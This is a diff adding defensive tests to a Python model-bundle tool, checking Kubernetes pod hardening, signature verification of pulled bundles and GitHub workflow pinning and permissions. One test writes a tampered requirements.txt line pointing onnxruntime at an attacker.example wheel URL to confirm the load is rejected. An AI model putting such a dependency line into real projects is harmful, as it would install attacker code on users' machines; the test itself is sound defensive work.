@@ -24,6 +24,8 @@ import ortprep.cli.app  # noqa: F401  puts the commands on the app
 from ortprep.bundle.digest import digest_bytes
 from ortprep.cli.command import app
 from tests.prepare.builders import AS_PREPARED, QUICK
+from tests.registry.builders import write_keys
+from tests.runtime.builders import write_bundle
 from tests.stages.fetch.fakes import serve_hub
 
 ROOT = Path(__file__).parent.parent
@@ -169,6 +171,63 @@ DEPLOYMENTS = sorted(
 )
 
 
+MANIFESTS = sorted(
+    path for path in EXAMPLES.rglob("*.yaml") if re.search(r"^apiVersion:", path.read_text(), re.MULTILINE)
+)
+
+
+def find_pods(data: Any) -> Iterator[dict[str, Any]]:
+    """Yields the specs of all pods in a manifest."""
+    if isinstance(data, dict) and "containers" in data:
+        yield data
+    for item in data.values() if isinstance(data, dict) else data if isinstance(data, list) else ():
+        yield from find_pods(item)
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("path", MANIFESTS, ids=lambda path: path.name)
+def test_what_runs_in_a_pod_can_change_neither_its_image_nor_its_model(path: Path) -> None:
+    pods = list(find_pods(list(yaml.safe_load_all(path.read_text()))))
+    assert pods
+    for pod in pods:
+        assert pod["automountServiceAccountToken"] is False
+        assert pod["securityContext"]["runAsNonRoot"] is True
+        for container in pod["containers"] + pod.get("initContainers", []):
+            assert container["securityContext"]["allowPrivilegeEscalation"] is False
+            assert container["securityContext"]["capabilities"] == {"drop": ["ALL"]}
+    (pod,) = find_pods(yaml.safe_load((EXAMPLES / "deploy" / "kubernetes.yaml").read_text()))
+    for container in pod["containers"]:
+        assert container["securityContext"]["readOnlyRootFilesystem"] is True
+        mounts = {mount["name"]: mount.get("readOnly", False) for mount in container["volumeMounts"]}
+        assert mounts == {"models": True, "key": True, "tmp": False}
+        assert {"name": "BUNDLE_KEY", "value": "/keys/key.pub"} in container["env"]
+
+
+@pytest.mark.attack
+def test_the_container_job_loads_only_what_its_key_signed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    private, public = write_keys(tmp_path / "keys")
+    _, other = write_keys(tmp_path / "other")
+    write_bundle(tmp_path / "linear")
+    registry, bundle = (tmp_path / "registry").as_uri(), tmp_path / "models" / "linear"
+    run("ortprep", "publish", "linear", "--registry", registry, "--sign", str(private), folder=tmp_path)
+    options = ("--out", str(bundle), "--verify", str(public))
+    run("ortprep", "pull", "linear", "--registry", registry, *options, folder=tmp_path)
+    monkeypatch.setenv("BUNDLE", str(bundle))
+
+    def load(key: Path) -> str:
+        monkeypatch.setenv("BUNDLE_KEY", str(key))
+        return run(sys.executable, str(EXAMPLES / "deploy" / "job.py"), folder=tmp_path)
+
+    assert "tensor(float)" in load(public)
+    with pytest.raises(AssertionError, match="SignatureError"):
+        load(other)
+    (bundle / "requirements.txt").write_text("onnxruntime @ https://attacker.example/wheel.whl\n")
+    with pytest.raises(AssertionError, match=r"IntegrityError|SignatureError"):
+        load(public)
+
+
 WORKFLOWS = sorted((EXAMPLES / "github").glob("*.yaml"))
 
 
@@ -179,6 +238,21 @@ def test_every_script_of_a_workflow_is_one_that_bash_takes(path: Path) -> None:
     assert scripts
     for script in scripts:
         subprocess.run(["bash", "-n"], input=script, text=True, check=True)
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
+def test_a_workflow_runs_neither_code_of_a_fork_nor_an_action_that_can_change(path: Path) -> None:
+    workflow = yaml.safe_load(path.read_text())
+    triggers = workflow[True]  # what YAML 1.1 makes of `on`
+    assert set(triggers) <= {"push", "schedule", "workflow_dispatch"}
+    assert workflow["permissions"] == {"contents": "read"}
+    steps = [step for job in workflow["jobs"].values() for step in job["steps"]]
+    actions = [step["uses"] for step in steps if "uses" in step]
+    pinned = re.findall(r"uses: (\S+@[0-9a-f]{40}) # v\d+\.\d+\.\d+$", path.read_text(), re.MULTILINE)
+    assert actions == pinned
+    assert not any("${{" in step.get("run", "") for step in steps), "expressions in scripts are code"
+    assert all(job.get("permissions") is None for job in workflow["jobs"].values())
 
 
 @pytest.mark.parametrize("path", DEPLOYMENTS, ids=lambda path: path.name)
